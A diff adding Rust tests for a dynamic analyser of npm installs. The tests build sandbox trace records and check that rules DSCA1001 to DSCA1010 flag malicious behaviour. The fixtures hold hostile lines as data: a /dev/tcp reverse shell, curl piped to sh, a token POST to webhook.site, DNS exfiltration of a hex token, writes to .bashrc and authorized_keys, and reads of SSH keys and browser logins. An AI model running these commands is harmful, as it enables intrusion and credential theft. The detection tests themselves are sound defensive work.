@@ -1,0 +1,774 @@
+//! One constructed sandbox record that triggers each dynamic rule and one that must not
+//! (a realistic benign install: npm's own `sh -c`, node-gyp with make and a compiler, a
+//! registry-only network trace, writes to ~/.npm/_cacache and node_modules), with a
+//! snapshot of what the rule reports. Malicious shapes use reserved names (`*.example`,
+//! `*.invalid`) and documentation addresses.
+
+use dsca_model::dynamic::{
+    Connection, DnsQuery, DroppedEvents, DynamicAnalysis, Exec, Exfiltration, FileEvent, FileOp,
+    HoneytokenRead, HttpRequest, PhaseResult, PhaseStatus, Process, SandboxInfo,
+};
+use dsca_model::{Finding, Severity};
+use dsca_rules::{analyse_dynamic, catalogue, rule_by_id};
+use insta::assert_yaml_snapshot;
+
+const HOME: &str = "/home/user";
+const PROJECT: &str = "/home/user/project";
+const RESOLVER: &str = "10.0.2.3";
+const PROXY: &str = "10.0.2.2";
+
+fn exec(time_ms: u64, argv: &[&str]) -> Exec {
+    let program = argv.first().copied().unwrap_or_default();
+    Exec {
+        path: if program.starts_with('/') {
+            program.to_string()
+        } else {
+            format!("/usr/bin/{program}")
+        },
+        argv: argv.iter().map(|a| a.to_string()).collect(),
+        time_ms,
+    }
+}
+
+fn process(pid: u32, ppid: Option<u32>, phase: &str, execs: Vec<Exec>) -> Process {
+    Process {
+        pid,
+        ppid,
+        phase: phase.into(),
+        execs,
+        cwd: Some(PROJECT.into()),
+        end: Some("exited 0".into()),
+        outlived: false,
+    }
+}
+
+fn file(op: FileOp, path: &str, pid: u32, time_ms: u64) -> FileEvent {
+    FileEvent {
+        op,
+        path: path.into(),
+        target: None,
+        pid,
+        phase: "install".into(),
+        time_ms,
+    }
+}
+
+fn dns(name: &str, qtype: &str, resolver: &str, pid: u32, registry: bool) -> DnsQuery {
+    DnsQuery {
+        name: name.into(),
+        qtype: qtype.into(),
+        transport: "udp".into(),
+        resolver: format!("{resolver}:53"),
+        time_ms: 10,
+        pid: Some(pid),
+        registry,
+        answer: if registry {
+            PROXY.into()
+        } else {
+            "192.0.2.1".into()
+        },
+    }
+}
+
+fn request(method: &str, url: &str, registry: bool) -> HttpRequest {
+    let host = url
+        .split("://")
+        .nth(1)
+        .and_then(|rest| rest.split('/').next())
+        .unwrap_or_default();
+    HttpRequest {
+        url: url.into(),
+        method: method.into(),
+        host: host.into(),
+        headers: vec![("user-agent".into(), "npm/10.8.2 node/v20.17.0".into())],
+        body: String::new(),
+        body_bytes: 0,
+        time_ms: 50,
+        destination: if registry {
+            format!("{PROXY}:443")
+        } else {
+            "192.0.2.1:443".into()
+        },
+        registry,
+        status: 200,
+    }
+}
+
+fn phase(name: &str, command: &[&str]) -> PhaseResult {
+    PhaseResult {
+        name: name.into(),
+        command: command.iter().map(|c| c.to_string()).collect(),
+        status: PhaseStatus::Completed,
+        exit_code: Some(0),
+        duration_ms: 4_200,
+        stdout_tail: "added 1 package in 4s\n".into(),
+        stderr_tail: String::new(),
+        error: None,
+    }
+}
+
+/// A clean install of a native addon: npm reads its config, fetches from the registry
+/// proxy, runs `node-gyp rebuild` through `sh -c`, which runs python3 (gyp), make and
+/// the compiler; then the import phase loads the package.
+fn benign() -> DynamicAnalysis {
+    let npm = ["npm", "install", "--no-audit", "demo-pkg"];
+    let import = ["node", "-e", "require('demo-pkg')"];
+    DynamicAnalysis {
+        sandbox: SandboxInfo {
+            namespaces: ["user", "mount", "pid", "net", "uts", "ipc"]
+                .map(String::from)
+                .to_vec(),
+            tracer: "strace".into(),
+            hostname: "sandbox".into(),
+            user: "user".into(),
+            registry_hosts: vec!["registry.npmjs.org".into()],
+            all_ports: true,
+            home: HOME.into(),
+            project_dir: PROJECT.into(),
+            resolver: RESOLVER.into(),
+        },
+        phases: vec![phase("install", &npm), phase("import", &import)],
+        dns: vec![
+            dns("registry.npmjs.org", "A", RESOLVER, 1, true),
+            dns("registry.npmjs.org", "AAAA", RESOLVER, 1, true),
+        ],
+        connections: vec![Connection {
+            protocol: "tcp".into(),
+            destination: PROXY.into(),
+            port: 443,
+            name: Some("registry.npmjs.org".into()),
+            time_ms: 20,
+            pid: Some(1),
+            kind: "registry".into(),
+            sni: Some("registry.npmjs.org".into()),
+            first_bytes: String::new(),
+            bytes_received: 4_096,
+        }],
+        http: vec![
+            request("GET", "https://registry.npmjs.org/demo-pkg", true),
+            request(
+                "GET",
+                "https://registry.npmjs.org/demo-pkg/-/demo-pkg-1.0.0.tgz",
+                true,
+            ),
+        ],
+        processes: vec![
+            process(1, None, "install", vec![exec(0, &npm)]),
+            process(
+                2,
+                Some(1),
+                "install",
+                vec![exec(100, &["sh", "-c", "node-gyp rebuild"])],
+            ),
+            process(
+                3,
+                Some(2),
+                "install",
+                vec![exec(
+                    110,
+                    &[
+                        "node",
+                        "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js",
+                        "rebuild",
+                    ],
+                )],
+            ),
+            process(
+                4,
+                Some(3),
+                "install",
+                vec![exec(
+                    120,
+                    &[
+                        "python3",
+                        "-c",
+                        "import sys; sys.stdout.write(sys.executable)",
+                    ],
+                )],
+            ),
+            process(
+                5,
+                Some(3),
+                "install",
+                vec![exec(
+                    130,
+                    &[
+                        "python3",
+                        "/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py",
+                        "binding.gyp",
+                    ],
+                )],
+            ),
+            process(
+                6,
+                Some(3),
+                "install",
+                vec![exec(200, &["make", "BUILDTYPE=Release", "-C", "build"])],
+            ),
+            process(
+                7,
+                Some(6),
+                "install",
+                vec![exec(
+                    210,
+                    &[
+                        "g++",
+                        "-o",
+                        "Release/obj.target/addon/addon.o",
+                        "-c",
+                        "../addon.cc",
+                    ],
+                )],
+            ),
+            process(8, Some(1), "install", vec![exec(90, &["git", "--version"])]),
+            process(20, None, "import", vec![exec(5_000, &import)]),
+        ],
+        files: vec![
+            file(FileOp::Read, "/home/user/.npmrc", 1, 5),
+            file(FileOp::Read, "/home/user/project/.npmrc", 1, 6),
+            file(
+                FileOp::Create,
+                "/home/user/.npm/_cacache/index-v5/ab/cd",
+                1,
+                30,
+            ),
+            file(
+                FileOp::Write,
+                "/home/user/.npm/_logs/2026-12-01-debug-0.log",
+                1,
+                31,
+            ),
+            file(
+                FileOp::Create,
+                "/home/user/project/node_modules/demo-pkg/package.json",
+                1,
+                40,
+            ),
+            file(FileOp::Write, "/home/user/project/package-lock.json", 1, 41),
+            file(
+                FileOp::Create,
+                "/home/user/.cache/node-gyp/20.17.0/include/node/node.h",
+                3,
+                115,
+            ),
+            file(
+                FileOp::Create,
+                "build/Release/obj.target/addon/addon.o",
+                7,
+                220,
+            ),
+            file(FileOp::Write, "/tmp/npm-1234/build.log", 3, 230),
+            file(FileOp::Write, "/dev/null", 6, 240),
+            file(
+                FileOp::Read,
+                "/home/user/project/node_modules/demo-pkg/index.js",
+                20,
+                5_010,
+            ),
+        ],
+        honeytokens: dsca_model::dynamic::Honeytokens {
+            planted: vec!["~/.npmrc (npm token)".into(), "env NPM_TOKEN".into()],
+            reads: vec![HoneytokenRead {
+                path: "~/.npmrc".into(),
+                pid: 1,
+                process: "npm install --no-audit demo-pkg".into(),
+                time_ms: 5,
+            }],
+            exfiltrations: Vec::new(),
+        },
+        dropped: Vec::new(),
+    }
+}
+
+/// The findings of one rule over a run.
+fn findings(run: &DynamicAnalysis, rule: &str) -> Vec<Finding> {
+    analyse_dynamic(run)
+        .findings
+        .into_iter()
+        .filter(|f| f.rule == rule)
+        .collect()
+}
+
+/// The benign run with a postinstall script process (pid 30, a child of `sh -c`).
+fn with_script(mut run: DynamicAnalysis, script: &str, children: Vec<Process>) -> DynamicAnalysis {
+    run.processes.push(process(
+        29,
+        Some(1),
+        "install",
+        vec![exec(300, &["sh", "-c", script])],
+    ));
+    run.processes.extend(children);
+    run
+}
+
+/// The benign run whose postinstall runs `node setup.js` (pid 30).
+fn running_setup_js() -> DynamicAnalysis {
+    with_script(
+        benign(),
+        "node setup.js",
+        vec![process(
+            30,
+            Some(29),
+            "install",
+            vec![exec(310, &["node", "setup.js"])],
+        )],
+    )
+}
+
+#[test]
+fn a_benign_install_is_clean() {
+    let analysis = analyse_dynamic(&benign());
+    assert_eq!(analysis.findings, Vec::<Finding>::new());
+    let ids: Vec<&str> = analysis.behaviours.iter().map(|b| b.id.as_str()).collect();
+    assert_eq!(
+        ids,
+        [
+            "dynamic.connections",
+            "dynamic.http",
+            "dynamic.programs",
+            "dynamic.bait-read"
+        ]
+    );
+}
+
+#[test]
+fn dynamic_rules_are_catalogued() {
+    let ids: Vec<&str> = catalogue().iter().map(|r| r.id).collect();
+    for n in 1001..=1010 {
+        let id = format!("DSCA{n}");
+        assert!(rule_by_id(&id).is_some(), "{id}");
+    }
+    // Numeric order: the four-digit ids come after every three-digit one.
+    assert_eq!(ids.last(), Some(&"DSCA1010"));
+}
+
+// DSCA1001 dns-lookup-outside-registry
+
+#[test]
+fn dsca1001_exfiltration_names_and_a_hard_coded_resolver() {
+    let mut run = running_setup_js();
+    run.dns.push(dns("abc.oast.fun", "A", RESOLVER, 30, false));
+    run.dns.push(dns(
+        "6e706d5f746f6b656e3d61626364656667.x.exfil.example",
+        "A",
+        RESOLVER,
+        30,
+        false,
+    ));
+    run.dns.push(dns("c2.example", "TXT", "8.8.8.8", 30, false));
+    run.dns.push(dns("c2.example", "TXT", "8.8.8.8", 30, false));
+    let found = findings(&run, "DSCA1001");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::High);
+}
+
+#[test]
+fn dsca1001_a_plain_lookup_is_medium_and_node_headers_low() {
+    let mut run = benign();
+    run.dns.push(dns("api.example", "A", RESOLVER, 3, false));
+    assert_eq!(findings(&run, "DSCA1001")[0].severity, Severity::Medium);
+    let mut run = benign();
+    run.dns.push(dns("nodejs.org", "A", RESOLVER, 3, false));
+    assert_eq!(findings(&run, "DSCA1001")[0].severity, Severity::Low);
+    assert!(findings(&benign(), "DSCA1001").is_empty());
+}
+
+#[test]
+fn dsca1001_many_names_under_one_domain_is_tunnelling_and_evidence_is_bounded() {
+    let mut run = benign();
+    for i in 0..30 {
+        run.dns
+            .push(dns(&format!("p{i}.t.example"), "A", RESOLVER, 3, false));
+    }
+    let found = findings(&run, "DSCA1001");
+    assert_eq!(found[0].severity, Severity::High);
+    assert_eq!(found[0].evidence.len(), 21);
+    assert_eq!(found[0].evidence[20].detail, "and 10 more");
+}
+
+// DSCA1002 ip-literal-connection
+
+#[test]
+fn dsca1002_connection_to_a_bare_address() {
+    let mut run = benign();
+    run.connections.push(Connection {
+        protocol: "tcp".into(),
+        destination: "198.51.100.23".into(),
+        port: 4444,
+        name: None,
+        time_ms: 400,
+        pid: Some(3),
+        kind: "raw".into(),
+        sni: None,
+        first_bytes: "uid=1000(user) gid=1000(user)\\n".into(),
+        bytes_received: 31,
+    });
+    let found = findings(&run, "DSCA1002");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::High);
+}
+
+#[test]
+fn dsca1002_named_loopback_and_registry_connections_are_not_reported() {
+    let mut run = benign();
+    run.connections.push(Connection {
+        protocol: "tcp".into(),
+        destination: "127.0.0.1".into(),
+        port: 9229,
+        name: None,
+        time_ms: 400,
+        pid: Some(3),
+        kind: "raw".into(),
+        sni: None,
+        first_bytes: String::new(),
+        bytes_received: 0,
+    });
+    assert!(findings(&run, "DSCA1002").is_empty());
+    assert!(findings(&benign(), "DSCA1002").is_empty());
+}
+
+// DSCA1003 http-request-outside-registry
+
+#[test]
+fn dsca1003_downloads_a_script_and_posts_to_a_webhook() {
+    let mut run = benign();
+    run.http
+        .push(request("GET", "http://198.51.100.7/stage2.sh", false));
+    let mut post = request("POST", "https://webhook.site/0000-1111", false);
+    post.body = "{\"npmrc\":\"//registry.npmjs.org/:_authToken=npm_bait\"}".into();
+    post.body_bytes = 52;
+    run.http.push(post);
+    let found = findings(&run, "DSCA1003");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::High);
+}
+
+#[test]
+fn dsca1003_registry_requests_are_not_reported_and_headers_download_is_low() {
+    assert!(findings(&benign(), "DSCA1003").is_empty());
+    let mut run = benign();
+    run.http.push(request(
+        "GET",
+        "https://nodejs.org/download/release/v20.17.0/node-v20.17.0-headers.tar.gz",
+        false,
+    ));
+    assert_eq!(findings(&run, "DSCA1003")[0].severity, Severity::Low);
+}
+
+// DSCA1004 download-and-execute
+
+#[test]
+fn dsca1004_runs_a_downloaded_file() {
+    let mut run = with_script(
+        benign(),
+        "node setup.js",
+        vec![
+            process(
+                30,
+                Some(29),
+                "install",
+                vec![exec(310, &["node", "setup.js"])],
+            ),
+            process(
+                31,
+                Some(30),
+                "install",
+                vec![exec(400, &["/tmp/.x/update", "--quiet"])],
+            ),
+        ],
+    );
+    run.files
+        .push(file(FileOp::Create, "/tmp/.x/update", 30, 350));
+    run.files
+        .push(file(FileOp::MakeExecutable, "/tmp/.x/update", 30, 360));
+    run.http
+        .push(request("GET", "http://198.51.100.7/update", false));
+    let found = findings(&run, "DSCA1004");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::Critical);
+}
+
+#[test]
+fn dsca1004_curl_piped_to_a_shell() {
+    let run = with_script(
+        benign(),
+        "curl -fsSL https://get.example/i | sh",
+        Vec::new(),
+    );
+    let found = findings(&run, "DSCA1004");
+    assert_eq!(found.len(), 1);
+    // Nothing answered outside the registry in this record: high, not critical.
+    assert_eq!(found[0].severity, Severity::High);
+}
+
+#[test]
+fn dsca1004_running_installed_package_files_is_normal() {
+    let mut run = with_script(
+        benign(),
+        "node install.js",
+        vec![process(
+            30,
+            Some(29),
+            "install",
+            vec![exec(310, &["node", "node_modules/demo-pkg/install.js"])],
+        )],
+    );
+    run.files.push(file(
+        FileOp::Create,
+        "/home/user/project/node_modules/demo-pkg/install.js",
+        1,
+        40,
+    ));
+    assert!(findings(&run, "DSCA1004").is_empty());
+    assert!(findings(&benign(), "DSCA1004").is_empty());
+}
+
+// DSCA1005 risky-command-executed
+
+#[test]
+fn dsca1005_reverse_shell_and_downloader() {
+    let run = with_script(
+        benign(),
+        "curl -s http://198.51.100.7/x -o /tmp/x; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+        vec![
+            process(
+                30,
+                Some(29),
+                "install",
+                vec![exec(
+                    310,
+                    &["curl", "-s", "http://198.51.100.7/x", "-o", "/tmp/x"],
+                )],
+            ),
+            process(31, Some(29), "install", vec![exec(320, &["bash", "-i"])]),
+        ],
+    );
+    let found = findings(&run, "DSCA1005");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::Critical);
+}
+
+#[test]
+fn dsca1005_a_decoder_alone_is_medium() {
+    let run = with_script(
+        benign(),
+        "base64 -d payload.txt > out.js",
+        vec![process(
+            30,
+            Some(29),
+            "install",
+            vec![exec(310, &["base64", "-d", "payload.txt"])],
+        )],
+    );
+    assert_eq!(findings(&run, "DSCA1005")[0].severity, Severity::Medium);
+}
+
+#[test]
+fn dsca1005_npm_and_node_gyp_are_normal() {
+    assert!(findings(&benign(), "DSCA1005").is_empty());
+    let run = with_script(
+        benign(),
+        "node -e \"try{require('./postinstall')}catch(e){}\"",
+        vec![process(
+            30,
+            Some(29),
+            "install",
+            vec![exec(
+                310,
+                &["node", "-e", "try{require('./postinstall')}catch(e){}"],
+            )],
+        )],
+    );
+    assert!(findings(&run, "DSCA1005").is_empty());
+}
+
+// DSCA1006 write-outside-project
+
+#[test]
+fn dsca1006_persistence_in_the_home_directory() {
+    let mut run = running_setup_js();
+    run.files
+        .push(file(FileOp::Write, "/home/user/.bashrc", 30, 330));
+    run.files.push(file(
+        FileOp::Create,
+        "/home/user/.local/bin/helper",
+        30,
+        340,
+    ));
+    run.files
+        .push(file(FileOp::Write, "../.ssh/authorized_keys", 30, 350));
+    let found = findings(&run, "DSCA1006");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::Critical);
+}
+
+#[test]
+fn dsca1006_a_write_elsewhere_is_high_and_npm_places_are_fine() {
+    assert!(findings(&benign(), "DSCA1006").is_empty());
+    let mut run = benign();
+    run.files.push(file(
+        FileOp::Create,
+        "/home/user/.local/share/x.json",
+        3,
+        330,
+    ));
+    assert_eq!(findings(&run, "DSCA1006")[0].severity, Severity::High);
+}
+
+// DSCA1007 process-outlived-phase
+
+#[test]
+fn dsca1007_a_daemon_left_running() {
+    let mut daemon = process(
+        31,
+        Some(30),
+        "install",
+        vec![exec(400, &["node", "/tmp/.x/miner.js"])],
+    );
+    daemon.outlived = true;
+    daemon.end = None;
+    let run = with_script(benign(), "nohup node /tmp/.x/miner.js &", vec![daemon]);
+    let found = findings(&run, "DSCA1007");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::High);
+    assert!(findings(&benign(), "DSCA1007").is_empty());
+}
+
+// DSCA1008 credential-file-read
+
+#[test]
+fn dsca1008_a_script_reads_bait_and_keys() {
+    let mut run = running_setup_js();
+    run.honeytokens.reads.push(HoneytokenRead {
+        path: "~/.npmrc".into(),
+        pid: 30,
+        process: "node setup.js".into(),
+        time_ms: 320,
+    });
+    run.files
+        .push(file(FileOp::Read, "/home/user/.npmrc", 30, 320));
+    run.files
+        .push(file(FileOp::Read, "/home/user/.ssh/id_ed25519", 30, 321));
+    run.files.push(file(
+        FileOp::Read,
+        "/home/user/.config/google-chrome/Default/Login Data",
+        30,
+        322,
+    ));
+    let found = findings(&run, "DSCA1008");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::High);
+    assert_eq!(
+        found[0].evidence.len(),
+        3,
+        "the bait read and the traced read are one"
+    );
+}
+
+#[test]
+fn dsca1008_npm_reading_its_own_config_is_normal() {
+    // The benign run has npm (pid 1) reading ~/.npmrc, bait included, before its scripts.
+    assert!(findings(&benign(), "DSCA1008").is_empty());
+    // The same read after npm started a lifecycle script counts.
+    let mut run = benign();
+    run.files
+        .push(file(FileOp::Read, "/home/user/.npmrc", 1, 500));
+    assert_eq!(findings(&run, "DSCA1008")[0].severity, Severity::High);
+}
+
+// DSCA1009 credential-exfiltration
+
+#[test]
+fn dsca1009_a_bait_token_leaves_over_dns() {
+    let mut run = benign();
+    run.honeytokens.exfiltrations.push(Exfiltration {
+        token: "NPM_TOKEN".into(),
+        encoding: "hex".into(),
+        channel: "dns".into(),
+        destination: "6e706d5f.x.exfil.example".into(),
+        time_ms: 420,
+    });
+    let found = findings(&run, "DSCA1009");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::Critical);
+    assert!(findings(&benign(), "DSCA1009").is_empty());
+}
+
+// DSCA1010 phase-timeout-or-error
+
+#[test]
+fn dsca1010_a_timeout_and_dropped_events() {
+    let mut run = benign();
+    if let Some(install) = run.phases.first_mut() {
+        install.status = PhaseStatus::Timeout;
+        install.exit_code = None;
+        install.duration_ms = 120_000;
+        install.stderr_tail = "npm warn deprecated x\nsleeping…\n".into();
+    }
+    run.dropped.push(DroppedEvents {
+        table: "files".into(),
+        count: 1_200,
+    });
+    let found = findings(&run, "DSCA1010");
+    assert_yaml_snapshot!(found);
+    assert_eq!(found[0].severity, Severity::Low);
+    assert!(findings(&benign(), "DSCA1010").is_empty());
+}
+
+#[test]
+fn behaviours_of_a_busy_run() {
+    let mut run = with_script(
+        benign(),
+        "curl -s http://198.51.100.7/x | sh",
+        vec![process(
+            30,
+            Some(29),
+            "install",
+            vec![exec(310, &["curl", "-s", "http://198.51.100.7/x"])],
+        )],
+    );
+    run.dns.push(dns("c2.example", "A", RESOLVER, 30, false));
+    run.files
+        .push(file(FileOp::Write, "/home/user/.profile", 30, 330));
+    let analysis = analyse_dynamic(&run);
+    assert_yaml_snapshot!(analysis.behaviours);
+}
+
+#[test]
+fn hostile_records_do_not_panic() {
+    let mut run = benign();
+    let long = "a.".repeat(5_000);
+    run.dns.push(dns(&long, "TYPE65", "[::1]:53", 1, false));
+    run.dns.push(dns("", "", "", 1, false));
+    run.connections.push(Connection {
+        protocol: String::new(),
+        destination: "[".into(),
+        port: 0,
+        name: None,
+        time_ms: 0,
+        pid: Some(u32::MAX),
+        kind: String::new(),
+        sni: Some("\u{202e}".into()),
+        first_bytes: "\u{0}".repeat(10),
+        bytes_received: u64::MAX,
+    });
+    run.http.push(request("", "", false));
+    run.http.push(request("GET", "http://", false));
+    run.http.push(request("GET", "://x/../..", false));
+    // A parent loop and an empty argv.
+    run.processes
+        .push(process(40, Some(41), "install", vec![exec(1, &[])]));
+    run.processes.push(process(
+        41,
+        Some(40),
+        "install",
+        vec![exec(1, &["sh", "-c", "$($($(`"])],
+    ));
+    run.files.push(file(FileOp::Rename, "", 40, 1));
+    run.files.push(file(FileOp::Write, "../../../../..", 41, 1));
+    run.files.push(file(FileOp::Read, "~", 41, 1));
+    run.sandbox.home = "relative".into();
+    let _ = analyse_dynamic(&run);
+    run.sandbox = SandboxInfo::default();
+    let _ = analyse_dynamic(&run);
+}
